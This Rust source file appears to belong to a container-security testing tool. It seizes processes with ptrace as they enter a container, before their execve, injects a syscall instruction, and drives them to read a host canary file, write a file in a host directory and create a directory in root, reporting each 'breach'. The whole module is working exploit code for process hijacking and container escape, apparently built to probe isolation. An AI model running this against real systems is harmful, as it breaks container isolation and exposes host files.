//! Tracing processes and having them make system calls (ptrace(2)).

use std::collections::{BTreeMap, BTreeSet};
use std::fs;

use nix::errno::Errno;
use nix::sys::ptrace;
use nix::sys::wait::{WaitPidFlag, WaitStatus, waitpid};
use nix::unistd::Pid;

use super::chase::{Catch, Programs, Runs, Then, chase};
use super::watcher::name;

/// How many times a process is driven before its execve.
const TURNS: u32 = 4;

/// How many times it is tried before others have their turn.
const TRIES: u32 = 40;

/// `drive look|stop SECONDS CANARY DIR`: seizes each process that appears, before its execve, and has it read the canary of
/// the host, write a file in a directory of the host, and make a directory in its root, which its filter forbids. Says
/// `traced PID …` of each that it holds, and `breach WHAT pid PID …` of what succeeded; at the end how many it
/// found and held.
pub fn drive(catch: &str, seconds: u64, canary: &str, dir: &str) {
    let programs = Programs::new();
    let (mut tried, mut held) = (BTreeSet::new(), BTreeMap::new());
    let catch = Catch::named(catch);
    chase(catch, seconds, |pid| {
        // A moment in which it may be traced is short.
        let mut seized = Err(Errno::EPERM);
        for _ in 0..TRIES {
            seized = if catch.finds(pid) { seize(pid, &programs) } else { Err(Errno::ESRCH) };
            if seized != Err(Errno::EPERM) {
                break;
            }
        }
        if seized == Ok(false) || !programs.run_by(pid).is_before() {
            return Then::Enough;
        }
        if tried.insert(pid) && tried.len() == 1 {
            println!("sees one before its execve");
        }
        if seized.is_err() {
            return Then::Again;
        }
        println!("traced {pid} ({}), {}", name(pid), rights(pid));
        command(pid, canary, dir);
        release(pid);
        let turns = held.entry(pid).or_insert(0);
        *turns += 1;
        if *turns < TURNS { Then::Again } else { Then::Enough }
    });
    println!("done: {} processes found before their execve, {} of them traced", tried.len(), held.len());
}

/// `drive-one PID CANARY DIR`: the same for this process; `refused ERRNO` where it may not be traced.
pub fn drive_one(pid: i32, canary: &str, dir: &str) {
    match seize(pid, &Programs::new()) {
        Ok(true) => {
            println!("traced {pid} ({}), {}", name(pid), rights(pid));
            command(pid, canary, dir);
            release(pid);
        }
        Ok(false) => println!("runs its program"),
        Err(errno) => println!("refused {errno:?}"),
    }
}

/// `hold look|stop SECONDS`: seizes one process before its execve and never lets go of it: neither runs it on nor reaps it.
pub fn hold(catch: &str, seconds: u64) {
    let programs = Programs::new();
    let mut held = None;
    chase(Catch::named(catch), seconds, |pid| {
        if held.is_none() && seize(pid, &programs) == Ok(true) {
            println!("traced {pid} ({}), {}", name(pid), rights(pid));
            held = Some(pid);
        }
        if held.is_some() || !programs.run_by(pid).is_before() { Then::Enough } else { Then::Again }
    });
    println!("done: {held:?} was held");
}

/// Traces a process and stops it; false, and it is let go, if it runs a program of the container by then.
fn seize(pid: i32, programs: &Programs) -> Result<bool, Errno> {
    let process = Pid::from_raw(pid);
    ptrace::seize(process, ptrace::Options::empty())?;
    if ptrace::interrupt(process).is_err() || !stops(pid) {
        return Ok(false);
    }
    let before = matches!(programs.run_by(pid), Runs::Another | Runs::Hidden);
    if !before {
        release(pid);
    }
    Ok(before)
}

/// Waits for the next stop; false if it ends instead.
fn stops(pid: i32) -> bool {
    let status = waitpid(Pid::from_raw(pid), Some(WaitPidFlag::__WALL));
    !matches!(status, Err(_) | Ok(WaitStatus::Exited(..) | WaitStatus::Signaled(..)))
}

fn release(pid: i32) {
    let _ = ptrace::detach(Pid::from_raw(pid), None);
}

/// As whom it acts, and what its filter is.
fn rights(pid: i32) -> String {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let wanted = |line: &&str| ["Uid:", "CapEff:", "NoNewPrivs:", "Seccomp:"].iter().any(|name| line.starts_with(name));
    let words = |line: &str| line.split_whitespace().collect::<Vec<_>>().join(" ");
    status.lines().filter(wanted).map(words).collect::<Vec<_>>().join(", ")
}

#[cfg(not(target_arch = "x86_64"))]
fn command(_pid: i32, _canary: &str, _dir: &str) {
    println!("skipped: driving a process is written for x86_64");
}

/// Has it make the calls, and puts it back as it was.
#[cfg(target_arch = "x86_64")]
fn command(pid: i32, canary: &str, dir: &str) {
    let Ok(driven) = driven::Driven::new(pid) else { return };
    if let Err(errno) = attack(&driven, pid, canary, dir) {
        println!("driving {pid}: {errno:?}");
    }
    driven.restore();
}

#[cfg(target_arch = "x86_64")]
fn attack(driven: &driven::Driven, pid: i32, canary: &str, dir: &str) -> Result<(), Errno> {
    let page = driven.page()?;
    driven.put(page, canary)?;
    if let Ok(fd) = driven.call(libc::SYS_open, [page, libc::O_RDONLY as u64, 0]) {
        let length = driven.call(libc::SYS_read, [fd, page + 2048, 64])?;
        println!("breach read pid {pid} ({}) {canary} of the host: {:?}", name(pid), driven.take(page + 2048, length)?);
        driven.call(libc::SYS_close, [fd, 0, 0])?;
    }
    driven.put(page, &format!("{dir}/owned-{pid}"))?;
    let flags = (libc::O_WRONLY | libc::O_CREAT) as u64;
    if let Ok(fd) = driven.call(libc::SYS_open, [page, flags, 0o600]) {
        println!("breach written pid {pid} ({}) a file in {dir} of the host", name(pid));
        driven.call(libc::SYS_close, [fd, 0, 0])?;
    }
    driven.put(page, &format!("/made-{pid}"))?;
    if driven.call(libc::SYS_mkdir, [page, 0o700, 0]).is_ok() {
        println!("breach unfiltered pid {pid} ({}) has made a directory", name(pid));
        driven.call(libc::SYS_rmdir, [page, 0, 0])?;
    }
    Ok(())
}

#[cfg(target_arch = "x86_64")]
mod driven {
    use nix::errno::Errno;
    use nix::sys::ptrace;
    use nix::sys::signal::Signal;
    use nix::sys::wait::{WaitPidFlag, WaitStatus, waitpid};
    use nix::unistd::Pid;

    /// A process that is traced and stopped, with a system call where it stands.
    pub struct Driven {
        pid: Pid,
        saved: libc::user_regs_struct,
        code: i64,
    }

    impl Driven {
        pub fn new(pid: i32) -> Result<Driven, Errno> {
            let pid = Pid::from_raw(pid);
            let saved = ptrace::getregs(pid)?;
            let code = ptrace::read(pid, saved.rip as *mut _)?;
            // `syscall`
            ptrace::write(pid, saved.rip as *mut _, code & !0xffff | 0x050f)?;
            Ok(Driven { pid, saved, code })
        }

        /// Has it make a system call.
        pub fn call(&self, number: i64, [a, b, c]: [u64; 3]) -> Result<u64, Errno> {
            let regs = libc::user_regs_struct {
                rax: number as u64,
                rdi: a,
                rsi: b,
                rdx: c,
                r10: (libc::MAP_PRIVATE | libc::MAP_ANONYMOUS) as u64,
                r8: u64::MAX,
                r9: 0,
                // It is in no system call that would be begun anew.
                orig_rax: u64::MAX,
                ..self.saved
            };
            ptrace::setregs(self.pid, regs)?;
            loop {
                ptrace::step(self.pid, None)?;
                match waitpid(self.pid, Some(WaitPidFlag::__WALL))? {
                    WaitStatus::Stopped(_, Signal::SIGTRAP) => break,
                    WaitStatus::Exited(..) | WaitStatus::Signaled(..) => return Err(Errno::ESRCH),
                    // A signal that stopped it, with the step still to be made.
                    _ => {}
                }
            }
            let result = ptrace::getregs(self.pid)?.rax as i64;
            if (-4095..0).contains(&result) { Err(Errno::from_raw(-result as i32)) } else { Ok(result as u64) }
        }

        /// Memory of its own for what calls read and write.
        pub fn page(&self) -> Result<u64, Errno> {
            self.call(libc::SYS_mmap, [0, 4096, (libc::PROT_READ | libc::PROT_WRITE) as u64])
        }

        /// Writes text there, with a NUL behind it.
        pub fn put(&self, place: u64, text: &str) -> Result<(), Errno> {
            let bytes = [text.as_bytes(), &[0; 8]].concat();
            for (word, at) in bytes.as_chunks::<8>().0.iter().zip((place..).step_by(8)) {
                ptrace::write(self.pid, at as *mut _, i64::from_ne_bytes(*word))?;
            }
            Ok(())
        }

        /// Reads text from there.
        pub fn take(&self, place: u64, length: u64) -> Result<String, Errno> {
            let mut bytes = Vec::new();
            for at in (place..place + length).step_by(8) {
                bytes.extend(ptrace::read(self.pid, at as *mut _)?.to_ne_bytes());
            }
            bytes.truncate(length as usize);
            Ok(String::from_utf8_lossy(&bytes).into_owned())
        }

        /// Puts it back as it was.
        pub fn restore(&self) {
            let _ = ptrace::write(self.pid, self.saved.rip as *mut _, self.code);
            let _ = ptrace::setregs(self.pid, self.saved);
        }
    }
}
